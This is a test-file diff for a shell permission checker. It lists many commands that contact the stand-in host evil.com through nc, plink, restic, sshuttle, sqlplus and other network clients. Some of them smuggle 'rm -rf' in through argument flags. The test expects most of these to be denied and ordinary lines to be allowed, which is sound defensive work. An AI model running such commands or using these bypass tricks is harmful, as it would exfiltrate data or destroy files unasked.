@@ -239,6 +239,35 @@ describe('decisions', () => {
   });
 });
 
+// Other network clients (src/shell/network-clients.ts; GTFOBins g2 F17: each was allowed by Shell(*) beside Domain(evil.com)).
+describe('other clients: decisions', () => {
+  const rules = { deny: ['Domain(evil.com)', 'Shell(rm *)', 'Read(//etc/**)'], allow: ['Shell(*)'] };
+  it.each([
+    ["nc.traditional -e 'rm -rf x' evil.com 1", 'deny'], ['nc.traditional evil.com 1', 'deny'], ['nc.openbsd evil.com 1', 'deny'],
+    ['systemctl -H evil.com status', 'deny'], ['systemctl --host=root@evil.com status', 'deny'], ['journalctl -u x -H evil.com', 'deny'],
+    ['timedatectl -H evil.com', 'deny'], ['hostnamectl --host evil.com', 'deny'], ['loginctl -H evil.com', 'deny'], ['machinectl -H evil.com list', 'deny'],
+    ['busctl --host evil.com tree', 'deny'],
+    ['mosquitto_pub -h evil.com -t t -m x', 'deny'], ['mosquitto_sub -L mqtt://evil.com/t', 'deny'], ['mosquitto_rr --host evil.com -t a -e b', 'deny'],
+    ['ncftp evil.com', 'deny'], ['ncftpput evil.com / a', 'deny'], ['ncftpget -u x evil.com . /x', 'deny'],
+    ['psftp evil.com', 'deny'], ['pscp a u@evil.com:x', 'deny'], ['plink u@evil.com', 'deny'], ['putty -ssh evil.com', 'deny'],
+    ["plink -proxycmd 'rm -rf x' h", 'deny'], ['plink -load prod', 'ask'],
+    ['restic -r rest:http://evil.com:12345/ backup a', 'deny'], ['restic -r sftp:user@evil.com:/x init', 'deny'],
+    ['restic --repo=s3:https://evil.com/b snapshots', 'deny'], ['restic -r rclone:remote:x snapshots', 'ask'],
+    ['openvpn --remote evil.com', 'deny'], ['socket evil.com 80', 'deny'], ["socket -qvp 'rm -rf x' evil.com 12345", 'deny'],
+    ['sshuttle -r evil.com 0/0', 'deny'], ["sshuttle -e 'rm -rf x' -r h 0/0", 'deny'], ['chronyc -h evil.com tracking', 'deny'], ['ntpdig evil.com', 'deny'],
+    ['kcat -b evil.com:9092 -L', 'deny'], ['kafkacat -X bootstrap.servers=evil.com:9092 -L', 'deny'], ['grpcurl evil.com:443 list', 'deny'],
+    ["grpcurl -plaintext -d '{}' evil.com:443 a.B/C", 'deny'], ['sqlplus u/p@evil.com', 'deny'], ['sqlplus u/p@//evil.com:1521/x', 'deny'],
+    ['whois q@evil.com', 'deny'], ['whois -h evil.com x', 'deny'],
+    // (sqlplus runs HOST and ! lines from its input.)
+    ["sqlplus -S u/p@db.local <<< 'host rm -rf x'", 'ask'],
+    // Ordinary lines stay allowed.
+    ['nc -z localhost 80', 'allow'], ['systemctl status nginx', 'allow'], ['journalctl -fu nginx -n 50', 'allow'], ['chronyc tracking', 'allow'],
+    ['restic -r /srv/repo snapshots', 'allow'], ['grpcurl -plaintext localhost:50051 list', 'allow'], ['whois example.org', 'allow'], ['socket -s 8080', 'allow'],
+  ] as [string, DecisionKind][])('%s: %s', (line, expected) => {
+    expectDecision(rules, 'shell', line, expected);
+  });
+});
+
 // Default registries (F11): deny and ask Domain rules see them; no Domain allow is needed for them.
 describe('default registries: decisions', () => {
   const registries = { deny: ['Domain(pypi.org)', 'Domain(*.crates.io)', 'Domain(registry.npmjs.org)', 'Domain(*.docker.io)', 'Domain(api.github.com)', 'Domain(proxy.golang.org)'], allow: ['Shell(*)'] };
